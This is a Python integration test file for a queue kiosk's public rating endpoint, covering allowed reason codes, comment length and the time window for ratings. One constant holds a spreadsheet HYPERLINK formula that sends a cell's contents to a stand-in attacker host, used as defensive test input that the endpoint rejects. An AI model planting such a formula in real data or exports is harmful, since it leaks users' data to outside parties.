"""Ratings need no login, so what is accepted is narrow: only the reason codes
the counter screen offers, a short comment, once, and only for a while after
the ticket was finished (the centre's rating window, set in /admin/centre)."""

from __future__ import annotations

import re
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import requests

from kiosk.reporting.labels import REASON_LABELS
from kiosk.usecases import rating
from tests.integration.test_admin import Desk, issue

SCREEN = Path(__file__).resolve().parents[2] / "display" / "templates" / "counter_screen.html"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def finished_ticket(hub) -> dict:
    ticket = issue(hub)
    admin = hub.session()
    assert admin.post(f"{hub.url}/api/v1/counters/1/next", timeout=10).status_code == 200
    assert admin.post(f"{hub.url}/api/v1/counters/1/finish", timeout=10).status_code == 200
    return ticket


def rate(hub, ticket_id: int, body: dict, lang: str = "en") -> requests.Response:
    return requests.post(
        f"{hub.url}/api/v1/tickets/{ticket_id}/rating",
        json=body,
        params={"lang": lang},
        timeout=10,
    )


def finished_minutes_ago(hub, ticket_id: int, minutes: int) -> None:
    at = datetime.now(UTC) - timedelta(minutes=minutes)
    db_path = hub.database_url.removeprefix("sqlite:///")
    with sqlite3.connect(db_path) as db:  # stored as naive UTC text on SQLite
        db.execute(
            "UPDATE tickets SET finished_at = ? WHERE id = ?",
            (at.replace(tzinfo=None).isoformat(sep=" "), ticket_id),
        )


def test_the_reason_codes_are_the_ones_the_counter_screen_offers():
    offered = re.findall(r'<input type="checkbox" value="([a-z_]+)"', SCREEN.read_text("utf-8"))
    assert tuple(offered) == rating.REASONS
    assert tuple(REASON_LABELS) == rating.REASONS  # each has words in the reports


def test_only_known_reasons_and_a_short_comment_are_accepted(hub):
    ticket = finished_ticket(hub)
    for reasons in ([FORMULA], ["waiting_time", "anything else"], "waiting_time", [3]):
        refused = rate(hub, ticket["id"], {"score": 1, "reasons": reasons})
        assert refused.status_code == 400, reasons
        assert refused.json()["error"] == "invalid_reason"
        assert "offered on the rating screen" in refused.json()["message"]
        assert "evil" not in refused.json()["message"]
    long = rate(hub, ticket["id"], {"score": 2, "comment": "x" * (rating.MAX_COMMENT + 1)})
    assert long.status_code == 400 and long.json()["error"] == "comment_too_long"
    assert str(rating.MAX_COMMENT) in long.json()["message"]
    # What the counter screen sends, and a comment from the citizen's phone.
    body = {"score": 2, "reasons": ["waiting_time", "attitude", "waiting_time"], "comment": "Lâu"}
    rated = rate(hub, ticket["id"], body)
    assert rated.status_code == 201, rated.text
    assert rated.json()["reasons"] == ["waiting_time", "attitude"]  # each once


def test_a_rating_comes_within_the_window_after_service(hub):
    assert rating.DEFAULT_WINDOW_MIN == 30
    late = finished_ticket(hub)
    finished_minutes_ago(hub, late["id"], 31)
    refused = rate(hub, late["id"], {"score": 5})
    assert refused.status_code == 409 and refused.json()["error"] == "rating_closed"
    assert "30 minutes" in refused.json()["message"]

    on_time = finished_ticket(hub)
    finished_minutes_ago(hub, on_time["id"], 29)
    assert rate(hub, on_time["id"], {"score": 4}).status_code == 201

    # The centre may give citizens longer: the late ticket can be rated now.
    desk = Desk(hub)
    form = {"name": "UBND xã Thử Nghiệm", "timezone": "Asia/Ho_Chi_Minh", "hours_text": ""}
    assert 'value="30"' in desk.get("/admin/centre").text
    bad = desk.post("/admin/centre", {**form, "rating_window_min": "0"})
    assert bad.status_code == 400
    saved = desk.post("/admin/centre", {**form, "rating_window_min": "60"})
    assert saved.status_code == 200 and 'value="60"' in saved.text
    assert rate(hub, late["id"], {"score": 5}).status_code == 201
    # A form without the field (an older page, a script) leaves the window as it is.
    assert desk.post("/admin/centre", form).status_code == 200
    assert 'value="60"' in desk.get("/admin/centre").text
